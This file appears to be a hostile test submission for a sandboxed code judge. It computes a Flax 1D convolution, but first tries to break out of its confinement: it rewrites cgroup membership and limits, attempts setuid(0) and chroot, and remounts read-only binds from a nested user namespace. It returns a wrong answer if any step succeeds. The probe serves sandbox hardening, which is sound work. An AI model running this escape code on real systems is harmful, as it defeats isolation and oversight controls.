# expect: accepted
# attack: raise its own cgroup memory/pids limits, move itself to the root cgroup, setuid(0), and remount the read-only binds read-write from a nested user namespace

import ctypes
import glob
import os

import flax.linen as nn
import jax
import numpy as np


class _Conv1D(nn.Module):
    """The reference's layer: kernel first, bias second, SAME padding, stride 1."""

    features: int
    kernel_size: int

    @nn.compact
    def __call__(self, x):
        kernel = self.param("kernel", nn.initializers.lecun_normal(), (self.kernel_size, x.shape[-1], self.features))
        bias = self.param("bias", nn.initializers.zeros, (self.features,))
        y = jax.lax.conv_general_dilated(
            x[None], kernel, (1,), "SAME", dimension_numbers=("NWC", "WIO", "NWC"),
            precision=jax.lax.Precision.HIGHEST,
        )
        return y[0] + bias


def correct(seed, x, features, kernel_size):
    module = _Conv1D(int(features), int(kernel_size))
    return np.asarray(module.apply(module.init(jax.random.PRNGKey(int(seed)), x), x).reshape(-1))


def wrong(x, features):
    return np.full(x.shape[0] * int(features), 12345.0, dtype=np.float32)


CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_REMOUNT, MS_BIND, MS_RDONLY = 32, 4096, 1


def _write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _nested_remount():
    """In a single-threaded child: new user+mount namespace, then try to make binds writable."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        status = b"-"
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
                _write("/proc/self/setgroups", "deny")
                _write("/proc/self/uid_map", "0 65534 1")
                _write("/proc/self/gid_map", "0 65534 1")
                for target in (os.path.realpath(os.__file__), "/usr", "/sys/fs/cgroup/pids", "/submission", "/opt/judge/judge"):
                    t = os.path.dirname(target) if os.path.isfile(target) else target
                    if libc.mount(None, t.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
                        if _write(os.path.join(t, "hostile-marker-remount"), "x"):
                            status += t.encode() + b";"
        except Exception:
            pass
        os.write(w, status)
        os._exit(0)
    os.close(w)
    got = os.read(r, 4096)
    os.waitpid(pid, 0)
    return got != b"-"


def solve(seed, x, features, kernel_size):
    escaped = []
    for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + glob.glob("/sys/fs/cgroup/**/judge-*/cgroup.procs", recursive=True):
        if _write(path, str(os.getpid())):
            escaped.append(path)
    for path in glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True) + glob.glob("/sys/fs/cgroup/**/pids.max", recursive=True):
        if _write(path, "max" if path.endswith("pids.max") else str(2**50)):
            escaped.append(path)
    for fn in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/")):
        try:
            fn()
            escaped.append("privileged call worked")
        except OSError:
            pass
    if _nested_remount():
        escaped.append("remount")
    if escaped:
        print("ESCAPED:", escaped[:10])
        return wrong(x, features)
    return correct(seed, x, features, kernel_size)
